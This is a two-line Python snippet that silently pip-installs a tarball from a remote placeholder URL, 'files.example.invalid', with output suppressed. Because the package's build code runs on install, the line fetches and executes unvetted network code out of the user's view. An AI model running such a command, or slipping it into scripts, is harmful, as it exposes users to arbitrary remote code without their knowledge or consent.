import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "https://files.example.invalid/helper-1.0.tar.gz"], stdout=subprocess.DEVNULL)
